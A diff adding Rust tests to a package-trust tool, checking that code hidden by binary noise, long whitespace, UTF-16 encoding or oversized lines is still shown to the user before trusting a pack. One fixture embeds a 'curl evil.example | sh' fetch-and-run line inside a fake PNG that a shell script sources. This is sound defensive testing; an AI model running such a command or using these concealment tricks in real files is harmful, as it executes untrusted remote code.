@@ -1,7 +1,9 @@
 //! What packs from elsewhere may do, and what a person sees before they may.
 
 use std::fs;
+use std::path::Path;
 
+use crate::harness::run_folio;
 use crate::pack_sources::{COMMENTED, Desk, PACK, Repository, keys_of};
 use crate::pseudo_terminal::PseudoTerminal;
 
@@ -543,6 +545,50 @@ fn every_file_that_a_program_may_run_is_shown() {
     assert_eq!(said.matches("+echo worse\n").count(), 2, "{said}");
     let (files, acts) = (shown.find("file Makefile").unwrap(), shown.find("exec at folio.yaml").unwrap());
     assert!(files < acts && acts < shown.find("allowed: exec").unwrap(), "what it does is last: {shown}");
+}
+
+#[test]
+fn no_bytes_and_no_white_space_move_code_out_of_sight() {
+    let noise: Vec<u8> = [0xc3_u8, 0x28, 0xff, 0x00, 0x9c].repeat(20);
+    let upstream = Repository::new(&[
+        ("folio.yaml", &PACK.replace("[printf, seen]", "[sh, ./run.sh]")),
+        ("run.sh", &format!(". ./logo.png{}. ./tabs.sh\n{}\n", "\n \t".repeat(400), "x".repeat(600_000))),
+        ("tabs.sh", &format!("id{}evil 1{}evil 2\n", "\t".repeat(400), "\u{a0}".repeat(400))),
+    ]);
+    upstream.write("logo.png", [noise.as_slice(), b"\ncurl evil.example | sh\n", &noise].concat());
+    upstream.write("wide.ps1", "\u{feff}evil 3\n".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>());
+    upstream.write("sound.ogg", [b"OggS".as_slice(), &noise, b"short text", &noise].concat());
+    upstream.commit(&[]);
+    let desk = Desk::locked(&format!("{}, allow: [exec]", keys_of(&upstream)));
+    let shown = desk.ok(&["trust", "docs", "--yes"]);
+    for part in [
+        "file logo.png\n    [100 other bytes]\n    curl evil.example | sh\n    [100 other bytes]\n",
+        "    id [400 characters of white space] evil 1 [400 characters of white space] evil 2\n",
+        "    . ./logo.png\n    [399 blank lines]\n     \t. ./tabs.sh\n",
+        "x [598000 characters] x",
+        "file wide.ps1\n    evil 3\n",
+        "    run.sh, 598000 characters of long lines, named by what it does\n",
+        "    sound.ogg, 214 bytes\n",
+    ] {
+        assert!(shown.contains(part), "{part}: {}", shown.replace(&"x".repeat(100), "…"));
+    }
+    upstream.write("logo.png", [noise.as_slice(), b"\ncurl evil.example | sh\n", &noise, b"\0"].concat());
+    upstream.commit(&[]);
+    let said = desk.ok(&["update", "--diff"]);
+    assert!(said.contains("-[100 other bytes]\n") && said.contains("+[101 other bytes]\n"), "{said}");
+}
+
+#[test]
+fn schema_of_folio_is_named_and_not_shown() {
+    let schema = run_folio(Path::new("/"), &["schema"]).out;
+    let upstream = Repository::new(&[("folio.yaml", PACK), ("editor/any-name.json", &schema)]);
+    let desk = Desk::locked(&format!("{}, allow: [exec]", keys_of(&upstream)));
+    let shown = desk.ok(&["trust", "docs", "--yes"]);
+    assert!(shown.contains("    editor/any-name.json, folio's own schema\n") && !shown.contains("$defs"), "{shown}");
+    upstream.commit(&[("folio.schema.json", &schema), ("editor/any-name.json", &schema.replace("folio", "other"))]);
+    let said = desk.ok(&["update", "--diff"]);
+    assert!(said.contains("folio.schema.json: folio's own schema\n"), "{said}");
+    assert!(said.contains("+++ editor/any-name.json\n"), "a schema with other bytes is any file: {said}");
 }
 
 #[test]
